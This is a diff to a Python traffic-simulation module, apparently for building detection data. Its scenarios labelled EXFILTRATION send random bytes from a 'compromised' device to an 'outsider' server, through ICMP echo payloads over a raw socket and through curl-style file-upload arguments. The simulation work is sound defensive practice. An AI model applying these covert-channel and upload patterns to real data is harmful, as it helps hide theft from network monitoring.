@@ -45,12 +45,6 @@ def dns_by_resolver(scene):
                        dice.random() < 0.5)
 
 
-def _echo(identifier, number, data):
-    """An ICMP echo request (RFC 792)."""
-    whole = struct.pack(">BBHHH", 8, 0, 0, identifier, number) + data
-    return whole[:2] + struct.pack(">H", raw.checksum(whole)) + whole[4:]
-
-
 @scenario("exfil-icmp", "EXFILTRATION", "a device whose echo requests carry data")
 def icmp(scene):
     device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
@@ -61,7 +55,8 @@ def icmp(scene):
         with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sending:
             for number, _ in enumerate(talk.beats(scene, dice, rate, 2 * scene.seconds)):
                 data = dice.randbytes(dice.randint(size // 2, size))
-                sending.sendto(_echo(identifier, number & 0xFFFF if counts else 1, data), (server.address, 0))
+                head = struct.pack(">HH", identifier, number & 0xFFFF if counts else 1)
+                sending.sendto(raw.icmp(8, head + data), (server.address, 0))
     with scene.attack(device.address, server.address, 1):
         talk.crew(scene, device, [0], work)
 
@@ -87,7 +82,7 @@ def upload(scene):
     speed = dice.choice(("150k", "300k", "600k", "1M"))
     how = dice.choice((["-T", path], ["-F", f"file=@{path}"], ["--data-binary", f"@{path}"]))
 
-    def answer(connection):
+    def answer(connection, _):
         if covert.whole_request(connection):
             connection.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")
     with (talk.serving(scene, server, port, answer),
@@ -104,7 +99,7 @@ def stream(scene):
     size, rate, kept = int(2 ** dice.uniform(9, 14)), 2 ** dice.uniform(2, 6), dice.random() < 0.6
     chatty = dice.random() < 0.5
 
-    def answer(connection):
+    def answer(connection, _):
         while connection.recv(65536):
             if chatty:
                 connection.sendall(b"\x06")
